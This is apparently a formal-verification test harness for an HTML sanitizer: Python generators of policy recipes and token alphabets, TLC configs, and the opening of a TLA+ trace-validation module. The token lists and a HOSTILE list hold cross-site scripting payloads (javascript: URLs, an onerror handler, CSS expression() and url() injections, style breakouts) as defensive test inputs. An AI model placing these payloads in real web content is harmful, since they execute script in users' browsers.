        base + [AS(["color"], "els", els=["span"], enum="e:Red|BLUE"), AS(["text-align"], "glob", enum="e:Center")],   # enumerations compare case-insensitively
        # an element with style rules of its own AND matched by a pattern that carries rules for another property: own rules win
        base + [AS(["color"], "els", els=["custom-x"]), AS(["width"], "pat", pat="^custom-")],
        # elements allowed by name only, no attribute rule anywhere: the style attribute lives on the style rules alone
        [call("NewPolicy"), call("AllowElements", names=["span", "p"]), AS(["color"], "els", els=["span"]), AS(["width"], "pat", pat="^p$")],
        base,
        # default handlers for several properties on an element pattern
        base + [AS(["color", "width", "text-align"], "pat", pat="^custom-")],
        # the same property allowed globally (enumeration) and on an element (pattern)
        base + [AS(["color"], "glob", enum="e:red|blue"), AS(["color"], "els", els=["span"], re="r:^#[0-9a-f]{3}$")],
        # two overlapping element patterns carrying different properties
        [call("NewPolicy"), AA(["style", "class"], pat="^custom-"), AA(["style"], pat="-x$"),
         AS(["color"], "pat", pat="^custom-", enum="e:red|blue"), AS(["width"], "pat", pat="-x$", handler=noparen)],
    ]
    alpha = av("style", STYLES) + av("class", ["k"])
    return dict(name="style", pairsweep=True, recipes=recipes, tokens=[], attrs={e: alpha for e in ["span", "p", "custom-x", "div", "custom-b-x", "custom-y", "bx-x"]})

def fam_conf():
    """C07 / C20: documents mostly inside the policy's own vocabulary (plus a few tokens outside it)."""
    lower = "re:^[a-z]+$"
    base = [call("NewPolicy"), call("AllowElements", names=["b", "p"]), AA(["href", "rel"], ["a"]), AA(["src", "alt"], ["img"]),
            AA(["class"], [], match=lower), AA(["class"], ["p"], match="re:^[0-9]+$"),
            AA(["title"], pat="^custom-", noattrs=True), AA(["cite"], ["q"]), AA(["lang"], pat="^custom-")]
    recipes = [
        base,
        base + [call("AllowStandardURLs")],
        base + [call("AllowURLSchemes", schemes=["http"]), call("RequireNoReferrerOnFullyQualifiedLinks", b=True),
                call("AddTargetBlankToFullyQualifiedLinks", b=True), call("RequireCrossOriginAnonymous", b=True)],
        base + [call("AllowComments"), call("AddSpaceWhenStrippingTag", b=True), call("AllowRelativeURLs", b=True)],
        base + [AA(["sandbox", "src"], ["iframe"]), call("RequireSandboxOnIFrame", vals=["allow-forms"]), call("AllowDataAttributes")],
        [call("UGCPolicy")],
    ]
    toks = [tok("start", "b"), tok("end", "b"), tok("start", "p", (("class", "123"),)), tok("start", "p", (("class", "abc"),)), tok("end", "p"),
            tok("start", "a", (("href", "http://e.com/x"),)), tok("start", "a", (("href", "/rel"), ("rel", "tag"))),
            tok("start", "a", (("href", "javascript:x"),)), tok("start", "a"), tok("end", "a"),
            tok("start", "img", (("src", "/i.png"), ("alt", "x y"))), tok("start", "img", (("src", "HTTP://E.com/%7e"),)),
            tok("start", "custom-x"), tok("start", "custom-x", (("title", "t"), ("class", "k"))), tok("end", "custom-x"),
            tok("start", "q", (("cite", "http://e.com/x"),)), tok("end", "q"),
            tok("start", "blink"), tok("self", "b"), tok("start", "b", (("data-x", "1"),)), tok("self", "custom-x"), tok("start", "custom-x", (("lang", "en"),)),
            tok("text", d="t&<x"), tok("text", d="a\rb"), tok("text", d="\ufeff\ufeffy"), tok("comment", d="cmt")]
    return dict(name="conf", recipes=recipes, tokens=toks)

def fam_ugc():
    """C04: the shipped policies against vocabulary tokens and hostile tokens."""
    recipes = [[call("UGCPolicy")], [call("StrictPolicy")]]
    js = "javascript:alert(1)"
    toks = [tok("start", "p"), tok("end", "p"), tok("start", "b"), tok("end", "b"), tok("start", "bdi"), tok("end", "bdi"),
            tok("start", "a", (("href", "http://e.com/x"),)), tok("start", "a", (("href", js),)), tok("start", "a", (("href", js), ("title", "x"))), tok("start", "a", (("href", "/r"), ("onclick", "x"), ("style", "color:red"))),
            tok("end", "a"), tok("start", "img", (("src", "/i.png"), ("alt", "x"))), tok("start", "img", (("src", "x"), ("onerror", "alert(1)"))),
            tok("start", "img", (("src", "data:image/png;base64,iVBORw0KGgo="),)),
            tok("start", "l\u0130", (("value", "3"),)), tok("start", "q", (("cite", "/caf\u00e9/menu"),)),
            tok("start", "a", (("href", "httpx://e.com/"),)), tok("start", "a", (("href", "/p?a\u00a0#"),)),
            tok("start", "td", (("colspan", "2"),)), tok("end", "td"), tok("start", "table"), tok("end", "table"),
            tok("start", "del", (("cite", js),)), tok("start", "q", (("cite", "http://e.com/"),)), tok("end", "q"),
            tok("start", "script"), tok("end", "script"), tok("start", "style"), tok("end", "style"), tok("self", "script"),
            tok("self", "input", (("id", "i"), ("type", "image"))), tok("self", "form", (("id", "f"),)), tok("self", "button"), tok("self", "meta", (("id", "m"),)),
            tok("self", "iframe", (("id", "x"), ("src", "http://e.com"))),
            tok("start", "a", (("href", "http://e.com/"), ("xml:href", js))), tok("start", "p", (("xml:lang", "en"), ("xml:id", "i"))),
            tok("start", "a", (("href", "java script:x"), ("href", js))), tok("start", "a", (("href", "http://e.com/?a=1&amp;amp;b=2"),)), tok("start", "a", (("href", "/" + "\u00e9" * 800),)), tok("start", "img", (("src", "/i.png"), ("srcset", "data:text/html,x 1x"))),   # prefixed spellings of allowed names
            tok("start", "iframe", (("src", "http://e.com"),)), tok("end", "iframe"), tok("start", "object"), tok("end", "object"),
            tok("start", "svg"), tok("start", "math"), tok("start", "form"), tok("start", "input", (("type", "image"), ("src", js))),
            tok("start", "base", (("href", "//x"),)), tok("start", "meta"), tok("start", "link", (("rel", "stylesheet"), ("href", "x"))),
            tok("start", "textarea"), tok("end", "textarea"), tok("start", "title"), tok("end", "title"),
            tok("text", d="txt"), tok("comment", d="cmt"), tok("comment", d="[CDATA[x]]"), tok("doctype", d="html")]
    return dict(name="ugc", recipes=recipes, tokens=toks)

def fam_policy():
    """C17: the builder API on two instances."""
    def AS(props, scope, els=(), pat="", handler="", enum="", re=""):
        return call("AllowStyles", props=list(props), scope=scope, els=list(els), pat=pat, handler=handler, enum=enum, re=re)
    hx = "f:verifharness/h.URLPolExampleHost"
    calls = [
        call("AllowElements", names=["B", "p"]), call("AllowElements", names=["b"]), call("AllowElements", names=["span", "A"]),
        AA(["class"], ["span"], match="re:^[a-z]+$"), AA(["CLASS"], [], match="re:^[0-9]+$"), AA(["class"], [], match="re:^[a-z]+$"), AA(["Title"], pat="^custom-", noattrs=True),
        AA(["class"], pat="-y$"),      # overlaps ^custom- on custom-y: an element reached through two patterns gets the union
        AA([], ["A"], noattrs=True), AA(["href"], ["a"]),
        AS(["color"], "glob"), AS(["COLOR"], "els", els=["Span"], enum="e:red|blue"),
        AS(["color"], "glob", re="r:^#[0-9a-f]{3}$"),     # a second global rule for the same property, with a matcher
        call("AllowElementsMatching", pat="^x-"),
        call("AllowURLSchemes", schemes=["HTTP"]), call("AllowURLSchemes", schemes=["mailto", "http"]),
        call("AllowURLSchemeWithCustomPolicy", scheme="Http", fid=hx), call("AllowURLSchemesMatching", pat="^(ftp|tel)$"),
        call("RequireNoFollowOnLinks", b=True), call("RequireNoFollowOnLinks", b=False),
        call("RequireNoReferrerOnLinks", b=True), call("RequireNoReferrerOnLinks", b=False),
        call("AllowRelativeURLs", b=True), call("AllowRelativeURLs", b=False), call("RequireParseableURLs", b=False),
        call("AddTargetBlankToFullyQualifiedLinks", b=True),
        call("SkipElementsContent", names=["B", "div"]), call("AllowElementsContent", names=["SCRIPT", "b", "object"]),
        call("SkipElementsContent", names=["style", "svg", "blink"]),
        call("RequireSandboxOnIFrame", vals=["allow-forms"]), call("RequireSandboxOnIFrame", vals=["allow-scripts"]),
        call("AllowIFrames", vals=["allow-forms", "allow-scripts"]),
        call("AllowComments"), call("AllowDataAttributes"), call("AddSpaceWhenStrippingTag", b=True), call("AddSpaceWhenStrippingTag", b=False),
        call("RequireCrossOriginAnonymous", b=True),
        call("AllowStandardURLs"), call("AllowStandardAttributes"), call("AllowImages"), call("AllowLists"), call("AllowStyling"),
        call("AllowDataURIImages"),
    ]
    ctorpairs = [[call("NewPolicy"), call("UGCPolicy")], [call("ZeroValue"), call("NewPolicy")],
                 [call("UGCPolicy"), call("UGCPolicy")], [call("StrictPolicy"), call("ZeroValue")]]
    return dict(name="policy", ctorpairs=ctorpairs, calls=calls, recipes=[], tokens=[])

def fam_policy3():
    """C17, histories of three calls: a reduced call alphabet (case variants, overlapping patterns, toggles, zero-value start)."""
    f = fam_policy()
    keep = [0, 2, 3, 4, 6, 7, 8, 9, 11, 12, 14, 16, 18, 19, 24, 26, 27, 28]
    f["calls"] = [f["calls"][i] for i in keep]
    f["ctorpairs"] = [f["ctorpairs"][1], f["ctorpairs"][2]]
    f["name"] = "policy3"
    return f

def fam_io():
    """C15 / C16: entry points, writer kinds, write-failure indexes, reader-failure offsets."""
    ugcx = [call("UGCPolicy"), call("AllowComments"), call("AddSpaceWhenStrippingTag", b=True)]
    unsafe = [call("NewPolicy"), call("AllowElements", names=["b", "script", "style"]), call("AllowUnsafe", b=True), call("AllowComments")]
    plain = [call("NewPolicy"), call("AllowElements", names=["b", "p"]), AA(["href"], ["a"])]
    zero = [call("ZeroValue"), call("AllowElements", names=["b"])]
    recipes = [ugcx, unsafe, plain, zero]
    T = lambda d: tok("text", d=d)
    docs = [
        dict(blank=False, toks=[tok("start", "p"), T("Hello "), tok("start", "b"), T("w<orld"), tok("end", "b"), tok("comment", d=" c "), tok("end", "p")]),
        dict(blank=False, toks=[tok("start", "blink"), T("x"), tok("end", "blink"), tok("start", "a", (("href", "http://e.com/?a=1&b=2"),)), T("l"), tok("end", "a")]),
        dict(blank=False, toks=[tok("start", "script"), T("if (a<b) alert(1)"), tok("end", "script"), T("after"), tok("start", "style"), T("p{}"), tok("end", "style")]),
        dict(blank=False, toks=[tok("start", "object"), T("in"), tok("comment", d="cc"), tok("end", "object"), T("out"), tok("doctype", d="html")]),
        dict(blank=False, toks=[tok("comment", d="only")]),
        dict(blank=False, toks=[T("just text & more")]),
        dict(blank=True, toks=[T(" \n\t ")]),
        dict(blank=True, toks=[]),
        dict(blank=True, toks=[T("\r\n\u00a0 \x0b\r")]),      # white space beyond the HTML set, with carriage returns: returned unchanged
        dict(blank=True, toks=[T("\u2028\r\u3000")]),
        dict(blank=False, toks=[tok("start", "a"), tok("start", "img"), tok("end", "a"), tok("self", "b"), tok("start", "b"), tok("end", "b"), T("\u00e9\u4e2d")]),
        dict(blank=False, toks=[tok("start", "b"), T("x"), tok("end", "b"), T("y" * 5000), tok("start", "b"), tok("end", "b")]),
        # a byte order mark is character data like any other: every entry point and every chunking must treat it alike
        dict(blank=False, toks=[T("\ufeffbom "), tok("start", "b"), T("x"), tok("end", "b")]),
        dict(blank=False, toks=[T("a\r\nb\rc")]),      # no markup at all, carriage returns
        dict(blank=False, toks=[T("\ufeff\ufeffy")]),
    ]
    return dict(name="io", recipes=recipes, docs=docs, tokens=[])

def fam_conc():
    """C13: concurrent calls on one shared policy; overlapping element patterns and style rules."""
    def AS(props, scope, els=(), pat="", handler="", enum="", re=""):
        return call("AllowStyles", props=list(props), scope=scope, els=list(els), pat=pat, handler=handler, enum=enum, re=re)
    pats = [call("NewPolicy"), AA(["class"], pat="^custom-", noattrs=True), AA(["title", "class"], pat="-x$", match="re:^[a-z]+$"),
            AA(["style"], pat=".*"), AS(["color"], "pat", pat="^custom-", enum="e:red|blue"), AS(["color"], "pat", pat="x$", re="r:^green$"),
            AS(["font-size"], "glob"), call("AllowElements", names=["b"]), call("AddSpaceWhenStrippingTag", b=True)]
    # options whose handling touches maps or (wrongly) the policy itself during a call: sandbox token sets, link options with URL
    # checking switched off afterwards
    opts = [call("NewPolicy"), AA(["href"], ["a"]), call("RequireNoFollowOnLinks", b=True), call("RequireParseableURLs", b=False),
            call("AllowIFrames", vals=["allow-forms", "allow-scripts", "allow-popups"]), call("AllowURLSchemesMatching", pat="^(ftp|tel)$")]
    # URL checking on, a scheme admitted only through a scheme pattern (a verdict the library might be tempted to remember)
    schemes = [call("NewPolicy"), AA(["href"], ["a"]), call("AllowURLSchemes", schemes=["http"]), call("AllowURLSchemesMatching", pat="^(ftp|tel)$")]
    handlers = [call("NewPolicy"), call("AllowElements", names=["span", "p"]), AS(["color"], "els", els=["span"], handler="h:verifharness/h.StyleHNoParen"),
                AS(["color"], "els", els=["p"]), AS(["border", "font", "background"], "glob")]
    # style rules on two element patterns ONLY (no global, no element rule): whether an element is style-filtered then depends on
    # the patterns alone, whatever order the map yields them in
    pats2 = [c for c in pats if not (c["m"] == "AllowStyles" and c["scope"] == "glob")]
    recipes = [[call("UGCPolicy"), call("AllowComments")], pats, [call("StrictPolicy")], opts, schemes, handlers, pats2]
    T = lambda d: tok("text", d=d)
    docs = [
        dict(toks=[tok("start", "iframe", (("sandbox", "allow-scripts allow-forms allow-scripts allow-popups allow-forms"),)), tok("end", "iframe"),
                   tok("start", "a", (("href", "x y"),)), T("l"), tok("end", "a")]),
        dict(toks=[tok("start", "span", (("style", "color: rgb(1,2,3); border: 1px solid red"),)), T("s"), tok("end", "span")]),
        dict(toks=[tok("start", "p", (("style", "color: rgb(1,2,3); font: italic bold 12px serif"),)), T("p"), tok("end", "p")]),
        dict(toks=[tok("start", "a", (("href", "ftp://f/x"),)), T("f"), tok("end", "a"), tok("start", "a", (("href", "tel:+1"),)), T("t"), tok("end", "a")]),
        dict(toks=[tok("start", "custom-x", (("class", "abc"), ("style", "color: green; font-size: 12px"))), T("one"), tok("end", "custom-x")]),
        # matched by one of the two style-carrying patterns only: whichever pattern the map yields first must not matter
        dict(toks=[tok("start", "custom-y", (("style", "color: red; position: fixed"),)), T("y"), tok("end", "custom-y"),
                   tok("start", "b-x", (("style", "color: green; position: fixed"),)), T("z"), tok("end", "b-x")]),
        dict(toks=[tok("start", "object"), T("hidden"), tok("end", "object")]),
        dict(toks=[tok("start", "a", (("href", "http://e.com/"),)), T("two"), tok("end", "a")]),
        dict(toks=[tok("start", "a"), tok("start", "b"), tok("end", "a")]),
        dict(toks=[tok("comment", d="c"), tok("start", "script"), T("x")]),
    ]
    return dict(name="conc", recipes=recipes, docs=docs, tokens=[])

def fam_conc_zero():
    """negative control for C13: a zero-value Policy{} shared before anything initialised it."""
    f = fam_conc()
    f["recipes"] = [[call("ZeroValue"), call("AllowComments"), call("AllowDataAttributes")]]
    f["name"] = "conc_zero"
    return f

HOSTILE = ["url(javascript:alert(1))", "url(data:text/html,x)", "url(//x.example/a)", "URL(JaVaScRiPt:alert(1))", "expression(alert(1))",
           "javascript:alert(1)", "data:text/html;base64,eA==", "\\6a avascript:x", "\\j", "<", ">", "</style>", "@import url(x)", "@charset",
           "url(httpx://e/)"]

def fam_css():
    """C18: for every default handler, values built from its own vocabulary with a hostile fragment spliced in."""
    import re
    here = os.path.dirname(os.path.abspath(__file__))
    vocab = json.load(open(os.path.join(here, "css_vocabulary.json")))
    urlsafe = re.compile(r"^[A-Za-z0-9._~:/?#@!$&'*+,;=%-]+$")
    plainurl = re.compile(r"^url\(['\"]?https?://[a-z0-9./_:]+['\"]?\)$")
    props = {}
    for p in sorted(vocab):
        props[p] = [dict(a=enc(a), plainurl=bool(plainurl.match(a))) for a in vocab[p]]
    frags = [dict(t=enc(h), urlsafe=bool(urlsafe.match(h))) for h in HOSTILE]
    return dict(name="css", props=props, proplist=sorted(props), frags=frags, recipes=[], tokens=[])

def fam_nest():
    """C09 / C08 deep: a reduced alphabet explored to greater depth (same-name nesting of kept and dropped elements,
    kept containers in between, skipped regions)."""
    base = [call("NewPolicy"), call("AllowElements", names=["b"]), AA(["href"], ["a"])]
    recipes = [base, base + [call("AddSpaceWhenStrippingTag", b=True), call("AllowElementsMatching", pat="^custom-")]]
    toks = [tok("start", "a"), tok("start", "a", (("href", "/x"),)), tok("end", "a"), tok("start", "b"), tok("end", "b"),
            tok("start", "object"), tok("end", "object"), tok("text", d="txt")]
    return dict(name="nest", recipes=recipes, tokens=toks)

def fam_nestw():
    """C09 / C08 deeper still: only prefixes of well-nested documents are explored (the family flag `wellnested`), over kept,
    attribute-dependent, unknown, skipped and void elements."""
    base = [call("NewPolicy"), call("AllowElements", names=["b"]), AA(["href"], ["a"]), AA(["title"], ["font"])]
    recipes = [base, base + [call("AddSpaceWhenStrippingTag", b=True), call("SkipElementsContent", names=["span"])]]
    toks = [tok("start", "a"), tok("start", "a", (("href", "/x"),)), tok("end", "a"), tok("start", "b"), tok("end", "b"),
            tok("start", "font"), tok("start", "font", (("title", "t"),)), tok("end", "font"), tok("start", "object"), tok("end", "object"),
            tok("start", "span"), tok("end", "span"), tok("start", "br"), tok("text", d="txt")]
    return dict(name="nestw", recipes=recipes, tokens=toks, wellnested=True)

def fam_nestf():
    """Same-name nesting in depth: one element that is dropped without attributes and kept with one, one kept container, text
    (well-nested documents only, which lets the exploration reach nine tokens)."""
    base = [call("NewPolicy"), call("AllowElements", names=["b"]), AA(["title"], ["font"])]
    recipes = [base, base + [call("AddSpaceWhenStrippingTag", b=True), call("SkipElementsContent", names=["font"])]]
    toks = [tok("start", "font"), tok("start", "font", (("title", "t"),)), tok("end", "font"), tok("start", "b"), tok("end", "b"),
            tok("start", "object"), tok("end", "object"), tok("self", "object"), tok("text", d="txt")]
    return dict(name="nestf", recipes=recipes, tokens=toks, wellnested=True)

def fam_foreign():
    """script and style inside foreign content (svg, math): their bodies stay raw text for the tokenizer and must never be written."""
    base = [call("NewPolicy"), call("AllowElements", names=["b"])]
    # the Require* options force attributes on elements; they must not put any element on the allowlist by themselves
    options = base + [call("RequireCrossOriginAnonymous", b=True), call("RequireSandboxOnIFrame", vals=["allow-forms"]),
                      call("RequireNoFollowOnLinks", b=True), call("AddTargetBlankToFullyQualifiedLinks", b=True)]
    recipes = [base, base + [call("AllowElements", names=["svg", "math"]), call("AllowElementsContent", names=["script", "style"])],
               [call("UGCPolicy")], [call("StrictPolicy")], options]
    toks = [tok("start", "svg"), tok("end", "svg"), tok("start", "math"), tok("end", "math"), tok("start", "script"), tok("end", "script"),
            tok("start", "style"), tok("end", "style"), tok("start", "b"), tok("end", "b"), tok("text", d="BODYTEXT"), tok("text", d="<b>x</b>BODYTAIL"),
            tok("start", "video", (("crossorigin", "use-credentials"), ("src", "/v"))), tok("end", "video"),
            tok("start", "iframe", (("sandbox", "allow-forms"), ("src", "/f"))), tok("end", "iframe"),
            tok("start", "area", (("href", "http://e.com/"), ("rel", "x"), ("target", "_blank")))]
    return dict(name="foreign", recipes=recipes, tokens=toks, wellnested=True)

def fam_nestx():
    """Well-nested documents over raw-text, unsafe, skip-set and pattern elements: how the skip flag, the closing-tag stack and
    the most-recently-started name interact at depth (explored like nestw)."""
    base = [call("NewPolicy"), call("AllowElements", names=["b"]), AA(["href"], ["a"]), AA(["class"], ["xmp"]),
            AA(["class"], pat="^custom-", noattrs=True)]
    recipes = [base + [call("AllowComments"), call("AddSpaceWhenStrippingTag", b=True)],
               base + [call("AllowElementsContent", names=["script", "style", "title", "object"])],
               base + [call("AllowUnsafe", b=True), AA(["type"], ["script"]), call("AllowElements", names=["style"])],
               base + [call("AllowUnsafe", b=True), call("AllowElementsContent", names=["script", "style"]), call("AllowComments"),
                       call("SkipElementsContent", names=["custom-x", "a"])]]
    toks = [tok("start", "a"), tok("start", "a", (("href", "/x"),)), tok("end", "a"),
            tok("start", "script"), tok("start", "script", (("type", "t"),)), tok("end", "script"),
            tok("start", "style"), tok("end", "style"), tok("start", "title"), tok("end", "title"),
            tok("start", "object"), tok("end", "object"), tok("start", "xmp", (("class", "k"),)), tok("end", "xmp"),
            tok("start", "custom-x"), tok("end", "custom-x"),
            tok("text", d="<i a=1>t&<x"), tok("comment", d="cmt")]
    return dict(name="nestx", recipes=recipes, tokens=toks, wellnested=True)

def fam_nesty():
    """Well-nested documents over elements that are reached (or must NOT be reached) through element patterns: a fully anchored
    literal pattern and a name that merely contains the literal, an element that only has style rules on a pattern, pattern
    elements in the skip set."""
    def AS(props, scope, els=(), pat="", handler="", enum="", re=""):
        return call("AllowStyles", props=list(props), scope=scope, els=list(els), pat=pat, handler=handler, enum=enum, re=re)
    base = [call("NewPolicy"), call("AllowElements", names=["b"]), AA(["href"], ["a"]), AA(["class"], pat="^lit$"),
            AA(["style"], []), AS(["color"], "pat", pat="^my-"), AA(["class"], pat="^custom-", noattrs=True),
            AA(["class"], ["xa"])]      # never bare, and its name ends with the name of another element (xa / a)
    recipes = [base, base + [call("AddSpaceWhenStrippingTag", b=True), call("SkipElementsContent", names=["custom-x"])]]
    toks = [tok("start", "a"), tok("start", "a", (("href", "/x"),)), tok("end", "a"),
            tok("start", "lit", (("class", "k"),)), tok("end", "lit"), tok("start", "split", (("class", "k"),)), tok("end", "split"),
            tok("start", "my-box", (("style", "color: red"),)), tok("end", "my-box"),
            tok("start", "custom-x"), tok("end", "custom-x"), tok("start", "object"), tok("end", "object"),
            tok("start", "xa"), tok("end", "xa"), tok("start", "cu\u017ftom-x", (("class", "k"),)), tok("end", "cu\u017ftom-x"),
            tok("text", d="<i a=1>t&<x")]
    return dict(name="nesty", recipes=recipes, tokens=toks, wellnested=True)

def fam_refine():
    """The nine-name universe of SanInd.tla as a concrete family: MC_Refine.tla checks that the typed abstract loop that Apalache
    proves inductive simulates BM_Sanitize step by step (so the unbounded result transfers to the trace-validated specification)."""
    names = ["b", "a", "img", "frame", "cx", "blink", "object", "script", "style"]
    good = {"a": ("href", "/x"), "img": ("src", "/i"), "frame": ("src", "/f"), "script": ("type", "t"), "style": ("type", "t")}
    r1 = [call("NewPolicy"), call("AllowElements", names=["b"]), AA(["href"], ["a"]), AA(["src"], ["img"]),
          AA(["class"], pat="^cx$", noattrs=True)]
    recipes = [
        r1,
        r1 + [call("AddSpaceWhenStrippingTag", b=True), call("AllowComments"), call("SkipElementsContent", names=["cx", "b"])],
        r1 + [call("AllowUnsafe", b=True), AA(["type"], ["script"]), call("AllowElements", names=["style"])],
        r1 + [call("AllowElementsContent", names=["script", "style", "object"]), AA(["type"], ["script"], noattrs=True)],
        [call("NewPolicy"), call("AllowComments")],
        [call("NewPolicy"), call("AllowElements", names=["blink", "frame", "object"]), AA(["class"], ["a", "img"]),
         call("AllowUnsafe", b=True), call("AllowElementsContent", names=["object"]), AA(["class"], pat="^c")],
    ]
    toks = []
    for n in names:
        g = good.get(n, ("class", "k"))
        for t in ("start", "self"):
            toks += [tok(t, n), tok(t, n, (g,)), tok(t, n, (("onclick", "x"),))]
        toks.append(tok("end", n))
    toks += [tok("text", d="t"), tok("comment", d="c"), tok("doctype", d="html")]
    return dict(name="refine", recipes=recipes, tokens=toks)

FAMS = dict(foreign=fam_foreign, nestf=fam_nestf, policy3=fam_policy3, refine=fam_refine, nesty=fam_nesty, urldup=fam_urldup, nestx=fam_nestx, nestw=fam_nestw, nest=fam_nest, css=fam_css, conc_zero=fam_conc_zero, conc=fam_conc, io=fam_io, policy=fam_policy, ugc=fam_ugc, conf=fam_conf, loop=fam_loop, loopq=fam_loopq, link=fam_link, url=fam_url, forced=fam_forced, allow=fam_allow, style=fam_style)

if __name__ == "__main__":
    here = os.path.dirname(os.path.abspath(__file__))
    for name, f in FAMS.items():
        with open(os.path.join(here, "fam_%s.json" % name), "w") as fh:
            json.dump(f(), fh, indent=None, sort_keys=True)
            fh.write("\n")
        print(name, "recipes", len(f().get("recipes", [])), "tokens", len(f().get("tokens", [])))
