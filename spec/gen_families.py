#!/usr/bin/env python3
"""Generates the bounded-model families (policy recipes + token alphabets) as JSON.
Deterministic; the output files are committed next to this script."""
import json, itertools, sys, os

def call(m, **kw):
    c = dict(m=m, names=[], pat="", attrs=[], match="", noattrs=False, scope="", els=[], props=[],
             handler="", enum="", re="", schemes=[], scheme="", fid="", b=False, vals=[])
    c.update(kw)
    return c

def tok(t, n="", a=(), d=""):
    return dict(t=t, n=n, a=[dict(k=k, v=v) for k, v in a], d=d)

def AA(attrs, els=(), match="", noattrs=False, pat=None):
    if pat is not None:
        return call("AllowAttrs", attrs=list(attrs), match=match, noattrs=noattrs, scope="pat", pat=pat)
    if els:
        return call("AllowAttrs", attrs=list(attrs), match=match, noattrs=noattrs, scope="els", els=list(els))
    return call("AllowAttrs", attrs=list(attrs), match=match, noattrs=noattrs, scope="glob")

# ---------------------------------------------------------------- loop family
def fam_loop():
    base = [call("NewPolicy"),
            call("AllowElements", names=["b"]),
            AA(["href"], ["a"]),
            AA(["src"], ["img"]),
            AA(["class"], pat="^custom-", noattrs=True),
            call("AllowElementsMatching", pat="^x-")]
    recipes = []
    for spaces, comments, allowscript, unskip in itertools.product([False, True], repeat=4):
        r = list(base)
        if spaces: r.append(call("AddSpaceWhenStrippingTag", b=True))
        if comments: r.append(call("AllowComments"))
        if allowscript:
            r.append(AA(["type"], ["script"], noattrs=True))
            r.append(call("AllowElementsMatching", pat="^sty"))
        if unskip: r.append(call("AllowElementsContent", names=["script", "style", "object"]))
        recipes.append(r)
    names = {
        "b": [()],                                   # allowed, bare OK
        "a": [(), (("href", "/x"),), (("onclick", "x"),)],        # allowed, never bare
        "img": [(), (("src", "/i"),)],               # void, never bare
        "custom-x": [(), (("class", "k"),)],         # pattern, bare OK
        "x-y": [(), (("class", "k"),)],              # pattern, no attribute rules: never emitted
        "blink": [()],                               # unknown
        "object": [()],                              # unknown, skip set
        "frame": [()],                               # unknown, skip set, void
        "script": [(), (("type", "t"),)],            # unsafe
        "style": [()],                               # unsafe
        "title": [()],                               # unknown, skip set, RCDATA
    }
    toks = []
    for n, avs in names.items():
        for a in avs:
            toks.append(tok("start", n, a))
            if n not in ("title", "style", "frame"):
                toks.append(tok("self", n, a))
        toks.append(tok("end", n))
    toks += [tok("text", d="txt"), tok("comment", d="cmt"), tok("doctype", d="html")]
    return dict(name="loop", recipes=recipes, tokens=toks)

def fam_loopq():
    f = fam_loop()
    # quick tier: 4 of the 16 recipes (every option on in at least one, off in at least one)
    f["recipes"] = [f["recipes"][i] for i in (0, 6, 9, 15)]
    f["name"] = "loopq"
    return f

FAMS = dict(loop=fam_loop, loopq=fam_loopq)

if __name__ == "__main__":
    here = os.path.dirname(os.path.abspath(__file__))
    for name, f in FAMS.items():
        with open(os.path.join(here, "fam_%s.json" % name), "w") as fh:
            json.dump(f(), fh, indent=None, sort_keys=True)
            fh.write("\n")
        print(name, "recipes", len(f()["recipes"]), "tokens", len(f()["tokens"]))
