SPECIFICATION TraceSpec
CONSTANT CheckAttrs = FALSE
INVARIANT TraceEnd
INVARIANT TI01
INVARIANT TI05
INVARIANT TI02bare
INVARIANT TStack
CHECK_DEADLOCK FALSE
