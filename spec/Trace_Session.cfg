SPECIFICATION TraceSpec
CONSTANT CheckAttrs = FALSE
INVARIANT TraceEnd
INVARIANT TI01
INVARIANT TI05
INVARIANT TI02bare
INVARIANT TStack
INVARIANT TI05body
INVARIANT TI06
INVARIANT TI07
INVARIANT TI08
INVARIANT TI09
INVARIANT TI02
INVARIANT TI03
INVARIANT TI10
INVARIANT TI11
INVARIANT TI12
INVARIANT TI07attrs
CHECK_DEADLOCK FALSE
