SPECIFICATION TraceSpec
CONSTANT CheckAttrs = FALSE
INVARIANT TraceEnd
INVARIANT TStack
CHECK_DEADLOCK FALSE
