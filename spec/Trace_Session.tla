--------------------------- MODULE Trace_Session ---------------------------
(***************************************************************************)
(* Trace validation: is a recorded execution of the real code a behaviour  *)
(* of the specification?  The trace (ndjson, file named by the environment *)
(* variable TRACE) has one line per linearisation point:                   *)
(*   reset                    start of a session (fresh zero policy)       *)
(*   build  pid, call, snap, others   one builder call on policy pid        *)
(*                            returned; its snapshot and those of the      *)
(*                            other live policies                          *)
(*   call   c, pid, entry     a Sanitize* call on policy pid starts        *)
(*   tok    c, tok, skip, cnt, stack, mrst, called, after, writes          *)
(*                            one token at the top of the loop with the    *)
(*                            loop state BEFORE it is processed, what      *)
(*                            sanitizeAttrs returned and what was written  *)
(*                            (werr: the last of them failed)              *)
(*   ret    c, err, rerr, final loop state   (rerr: the source reader was  *)
(*                            scripted to fail with a non-EOF error)       *)
(* Every event is fully logged, so the trace specification never branches. *)
(* A line the specification cannot take is recorded in `div` and the trace *)
(* is re-synchronised at the end of that call / session, so that the rest  *)
(* of the trace is still checked.  The final state prints TRACE-END.       *)
(***************************************************************************)
EXTENDS BM_Call, IOUtils, TLCExt

TraceFile == IF "TRACE" \in DOMAIN IOEnv THEN IOEnv.TRACE ELSE "trace.ndjson"
FactsFile == IF "FACTS" \in DOMAIN IOEnv THEN IOEnv.FACTS ELSE "facts.json"
ASSUME TLCSet(44, ndJsonDeserialize(TraceFile))
ASSUME TLCGet(44) = TLCGet(44)   \* deep-normalises the shared value before the workers start
ASSUME TLCSet(42, JsonDeserialize(FactsFile))
ASSUME TLCGet(42) = TLCGet(42)   \* deep-normalises the shared value before the workers start
Tr      == TLCGet(44)

\* CheckAttrs: also require SanitizeAttrs(before) = logged after (needs the full fact tables)
CONSTANT CheckAttrs

VARIABLES l,      \* next line of Tr
          div,    \* lines at which the real code left the specification
          pols,   \* the live policies of the session: policy id -> policy
          wfail,  \* a destination write of the current call has failed
          last,   \* the last tag whose attributes went through sanitizeAttrs: [n, as, res] (n = "" if none yet)
          pv      \* property failures observed on the recorded execution: sequence of <<line, property id>>
tvars == <<pol, st, inp, out, l, div, pols, wfail, last, pv>>

NoTag == [n |-> "", as |-> <<>>, res |-> <<>>]

StOf(e) == [skip |-> e.skip, cnt |-> e.cnt, stack |-> e.stack, mrst |-> e.mrst]

WriteMatches(w, t) == \/ w = t
                      \/ w.t = "chars" /\ t.t \in {"text", "raw"} /\ w.d = t.d
WritesMatch(ws, ts) == Len(ws) = Len(ts) /\ \A i \in DOMAIN ws : WriteMatches(ws[i], ts[i])

\* first line after l that starts a new call or session (or the end)
RECURSIVE Resync(_)
Resync(i) == IF i > Len(Tr) THEN i
             ELSE IF Tr[i].ev \in {"call", "reset", "build"} THEN i
             ELSE Resync(i + 1)

